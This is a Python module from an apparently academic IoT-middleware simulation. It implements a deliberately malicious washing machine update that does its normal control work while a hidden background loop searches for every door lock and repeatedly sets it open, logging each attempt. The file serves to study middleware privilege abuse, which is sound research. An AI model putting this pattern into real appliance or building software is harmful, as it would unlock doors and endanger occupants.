"""Version 2 of the washing machine's control service: does its work, and opens every door that it finds.

The paper's second scenario: an update that abuses what the middleware would let it do.
"""

import asyncio

from topologies.services.programs import MaliciousWashingMachine
from topologies.services.runtime import Runtime
from topologies.services.vsl import Agent, VslError, live
from topologies.services.washing_machine import Control


async def _open_doors(run: Runtime, options: MaliciousWashingMachine, agent: Agent) -> None:
    await asyncio.sleep(options.delay)
    tries = opened = 0
    while True:
        try:
            for door in await agent.search("/security/door-lock"):
                tries += 1
                await agent.set(f"{door}/isOpen", "1")
                opened += 1
                run.log("attacked", operation="set", node=f"{door}/isOpen", result="done")
        except VslError as error:
            run.log("attacked", operation="set", result=str(error))
        run.show(attack={"tries": tries, "opened": opened})
        await asyncio.sleep(options.pause)


async def main(run: Runtime, options: MaliciousWashingMachine) -> None:
    """Control the machine and attack, until cancelled."""

    async def work(agent: Agent) -> None:
        attack = asyncio.create_task(_open_doors(run, options, agent))
        try:
            await Control(run, options).work(agent)
        finally:
            attack.cancel()

    await live(run, "/appliance/washing-machine", __file__, work)
